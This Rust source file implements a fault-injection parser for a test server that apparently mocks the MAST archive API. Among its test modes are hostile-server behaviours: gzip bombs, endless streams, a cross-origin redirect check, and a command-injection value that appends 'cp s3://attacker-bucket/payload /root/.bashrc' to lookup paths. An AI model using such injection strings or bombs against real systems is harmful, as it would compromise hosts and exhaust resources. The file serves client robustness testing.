//! Fault injection: the `faults` spec of the config (applies to every
//! request) and the per-request header `X-Mastflow-Fault` (applies to that
//! request; its keys override the global ones).
//!
//! Grammar (items separated by `,` `;` or spaces; see `docs/sandbox.md`):
//!
//! ```text
//! spec      = item *( sep item )
//! item      = "latency=" MS | "executing=" N | "status=" CODE | "retry-after=" S
//!           | "reset" | "reset-after=" BYTES | "truncate" | "truncate-at=" BYTES
//!           | "short-body"
//!           | "slow-body=" BYTES_PER_SEC | "rowcap=" ROWS
//!           | "first=" N | "only=" ROUTE | "tap-exec=" MS
//!           | "endless" | "extra-bytes=" BYTES | "pages-forever" | "dup-column"
//!           | "huge-page=" MB | "gzip-bomb=" MB
//!           | "redirect-port=" PORT | "lookup-inject"
//! spec     =/ spec sep "error=" MSG        ; MSG runs to the end of the spec
//! ROUTE     = "invoke" | "download" | "columnsconfig" | "bundle" | "missions"
//!           | "path-lookup"
//!           | "tap-sync" | "tap-async" | "tap-vosi" | "tap"   ; "tap": every TAP route
//! ```
//!
//! A header spec with `only=ROUTE` applies to that route only (so one header
//! can be sent on every request of a client).
//!
//! `tap-exec=MS` keeps an async TAP job EXECUTING for MS milliseconds before
//! its query runs (taken from the request that creates the job or the one
//! that sends `PHASE=RUN`). On TAP routes `error=MSG` answers a VOTable
//! error document with MSG (HTTP 200).
//!
//! Hostile servers (for the client's bounds): `endless` sends zero bytes
//! after the body forever (an endless download stream); `extra-bytes=N`
//! sends N zero bytes after it (a file larger than planned);
//! `dup-column` renames a Mashup reply's second field to the first's name
//! (two columns of one name); `pages-forever` rewrites a Mashup reply's `paging` to claim one more page
//! than the one asked for, forever; `huge-page=MB` pads a JSON reply with MB
//! megabytes of spaces before its closing brace (still valid JSON);
//! `gzip-bomb=MB` replaces the body by a gzip stream (`Content-Encoding:
//! gzip`) that expands to MB megabytes of zeros; `redirect-port=PORT`
//! answers `307 Temporary Redirect` to the same path and query on
//! `127.0.0.1:PORT` (another origin of the same host: the token must not
//! follow); `lookup-inject` makes every `path_lookup` path end in a newline
//! and `cp s3://attacker-bucket/payload /root/.bashrc` (an s5cmd injection).

use std::time::Duration;

/// MAST resets the connection above roughly this many records (§1.4).
pub const DEFAULT_ROW_CAP: u64 = 500_000;

/// A parsed fault spec; `None` fields are not set.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct FaultSpec {
    pub latency_ms: Option<u64>,
    pub executing: Option<u32>,
    pub status: Option<u16>,
    pub retry_after: Option<u64>,
    pub reset: bool,
    pub reset_after: Option<u64>,
    pub truncate: bool,
    pub truncate_at: Option<u64>,
    /// `Content-Length` announces the whole body, and the connection closes
    /// after half of it (or `truncate-at` bytes): a body cut in transit.
    pub short_body: bool,
    pub slow_body: Option<u64>,
    pub error: Option<String>,
    pub rowcap: Option<u64>,
    pub first: Option<u64>,
    pub only: Option<String>,
    pub tap_exec_ms: Option<u64>,
    pub endless: bool,
    pub extra_bytes: Option<u64>,
    pub pages_forever: bool,
    pub dup_column: bool,
    pub huge_page_mb: Option<u64>,
    pub gzip_bomb_mb: Option<u64>,
    pub redirect_port: Option<u16>,
    pub lookup_inject: bool,
}

/// `error=MSG` takes the rest of the spec (messages contain spaces and
/// punctuation), so it must come last.
fn split_error(s: &str) -> (&str, Option<String>) {
    let lower = s.to_ascii_lowercase();
    let at = lower
        .match_indices("error=")
        .map(|(i, _)| i)
        .find(|&i| i == 0 || matches!(s.as_bytes()[i - 1], b',' | b';' | b' '));
    match at {
        Some(i) => (&s[..i], Some(s[i + "error=".len()..].to_string())),
        None => (s, None),
    }
}

fn num<T: std::str::FromStr>(key: &str, v: Option<&str>) -> Result<T, String> {
    v.and_then(|v| v.trim().parse().ok())
        .ok_or_else(|| format!("fault `{key}` needs a number, e.g. `{key}=2`"))
}

impl FaultSpec {
    /// Parse a spec; an unknown item is an error naming it.
    pub fn parse(s: &str) -> Result<FaultSpec, String> {
        let mut f = FaultSpec::default();
        let (s, error) = split_error(s);
        f.error = error;
        for item in s
            .split([',', ';', ' '])
            .map(str::trim)
            .filter(|x| !x.is_empty())
        {
            let (k, v) = match item.split_once('=') {
                Some((k, v)) => (k.trim().to_ascii_lowercase(), Some(v)),
                None => (item.to_ascii_lowercase(), None),
            };
            match k.as_str() {
                "latency" => f.latency_ms = Some(num(&k, v)?),
                "executing" => f.executing = Some(num(&k, v)?),
                "status" => f.status = Some(num(&k, v)?),
                "retry-after" => f.retry_after = Some(num(&k, v)?),
                "reset" => f.reset = true,
                "reset-after" => f.reset_after = Some(num(&k, v)?),
                "truncate" => f.truncate = true,
                "truncate-at" => f.truncate_at = Some(num(&k, v)?),
                "short-body" => f.short_body = true,
                "slow-body" => f.slow_body = Some(num(&k, v)?),
                "error" => f.error = Some(v.unwrap_or("Injected error").to_string()),
                "rowcap" => f.rowcap = Some(num(&k, v)?),
                "first" => f.first = Some(num(&k, v)?),
                "only" => f.only = v.map(|x| x.trim().to_ascii_lowercase()),
                "tap-exec" => f.tap_exec_ms = Some(num(&k, v)?),
                "endless" => f.endless = true,
                "extra-bytes" => f.extra_bytes = Some(num(&k, v)?),
                "pages-forever" => f.pages_forever = true,
                "dup-column" => f.dup_column = true,
                "huge-page" => f.huge_page_mb = Some(num(&k, v)?),
                "gzip-bomb" => f.gzip_bomb_mb = Some(num(&k, v)?),
                "redirect-port" => f.redirect_port = Some(num(&k, v)?),
                "lookup-inject" => f.lookup_inject = true,
                other => {
                    return Err(format!(
                        "unknown fault `{other}`; known: latency, executing, status, retry-after, reset, reset-after, truncate, truncate-at, short-body, slow-body, error, rowcap, first, only, tap-exec, endless, extra-bytes, pages-forever, dup-column, huge-page, gzip-bomb, redirect-port, lookup-inject"
                    ));
                }
            }
        }
        Ok(f)
    }

    /// `self` with every field that `over` sets replaced.
    pub fn merged(&self, over: &FaultSpec) -> FaultSpec {
        FaultSpec {
            latency_ms: over.latency_ms.or(self.latency_ms),
            executing: over.executing.or(self.executing),
            status: over.status.or(self.status),
            retry_after: over.retry_after.or(self.retry_after),
            reset: over.reset || self.reset,
            reset_after: over.reset_after.or(self.reset_after),
            truncate: over.truncate || self.truncate,
            truncate_at: over.truncate_at.or(self.truncate_at),
            short_body: over.short_body || self.short_body,
            slow_body: over.slow_body.or(self.slow_body),
            error: over.error.clone().or_else(|| self.error.clone()),
            rowcap: over.rowcap.or(self.rowcap),
            first: over.first.or(self.first),
            only: over.only.clone().or_else(|| self.only.clone()),
            tap_exec_ms: over.tap_exec_ms.or(self.tap_exec_ms),
            endless: over.endless || self.endless,
            extra_bytes: over.extra_bytes.or(self.extra_bytes),
            pages_forever: over.pages_forever || self.pages_forever,
            dup_column: over.dup_column || self.dup_column,
            huge_page_mb: over.huge_page_mb.or(self.huge_page_mb),
            gzip_bomb_mb: over.gzip_bomb_mb.or(self.gzip_bomb_mb),
            redirect_port: over.redirect_port.or(self.redirect_port),
            lookup_inject: over.lookup_inject || self.lookup_inject,
        }
    }

    /// Whether this spec targets requests of `route` (`only=tap` covers
    /// every `tap-*` route).
    pub fn applies_to(&self, route: &str) -> bool {
        self.only
            .as_deref()
            .is_none_or(|o| o == route || (o == "tap" && route.starts_with("tap-")))
    }

    pub fn latency(&self) -> Duration {
        Duration::from_millis(self.latency_ms.unwrap_or(0))
    }

    /// Where a body of `len` bytes is cut by `reset`/`truncate`, if at all.
    pub fn cut_at(&self, len: u64) -> Option<(u64, bool)> {
        if self.reset || self.reset_after.is_some() {
            return Some((self.reset_after.unwrap_or(len / 2).min(len), true));
        }
        if self.truncate || self.truncate_at.is_some() || self.short_body {
            return Some((self.truncate_at.unwrap_or(len / 2).min(len), false));
        }
        None
    }

    /// Zero bytes sent after the body (`u64::MAX`: forever).
    pub fn padding(&self) -> u64 {
        if self.endless {
            u64::MAX
        } else {
            self.extra_bytes.unwrap_or(0)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn grammar() {
        let f =
            FaultSpec::parse("latency=50, executing=2; status=503 retry-after=3 reset").unwrap();
        assert_eq!(f.latency_ms, Some(50));
        assert_eq!(f.executing, Some(2));
        assert_eq!(f.status, Some(503));
        assert_eq!(f.retry_after, Some(3));
        assert!(f.reset);
        assert!(FaultSpec::parse("explode").is_err());
        assert!(FaultSpec::parse("executing=x").is_err());
        let g = FaultSpec::parse("only=download,slow-body=1000").unwrap();
        assert!(g.applies_to("download") && !g.applies_to("invoke"));
        assert_eq!(f.merged(&g).slow_body, Some(1000));
        assert_eq!(
            FaultSpec::parse("truncate").unwrap().cut_at(100),
            Some((50, false))
        );
        let e = FaultSpec::parse("latency=5, error=Login failed for user 'webaccess'.").unwrap();
        assert_eq!(
            e.error.as_deref(),
            Some("Login failed for user 'webaccess'.")
        );
        assert_eq!(e.latency_ms, Some(5));
        let t = FaultSpec::parse("status=504,only=tap-sync").unwrap();
        assert!(t.applies_to("tap-sync") && !t.applies_to("tap-async"));
        let t = FaultSpec::parse("only=tap,tap-exec=1500").unwrap();
        assert!(t.applies_to("tap-sync") && t.applies_to("tap-async") && !t.applies_to("invoke"));
        assert_eq!(t.tap_exec_ms, Some(1500));
        assert!(FaultSpec::parse("tap-exec=soon").is_err());
        let h = FaultSpec::parse("endless,pages-forever,gzip-bomb=5,huge-page=2").unwrap();
        assert_eq!(h.padding(), u64::MAX);
        assert!(h.pages_forever);
        assert_eq!((h.gzip_bomb_mb, h.huge_page_mb), (Some(5), Some(2)));
        assert_eq!(FaultSpec::parse("extra-bytes=7").unwrap().padding(), 7);
        let r = FaultSpec::parse("redirect-port=8081,only=path-lookup,lookup-inject").unwrap();
        assert_eq!(r.redirect_port, Some(8081));
        assert!(r.lookup_inject && r.applies_to("path-lookup") && !r.applies_to("download"));
        assert!(FaultSpec::parse("redirect-port=70000").is_err());
    }
}
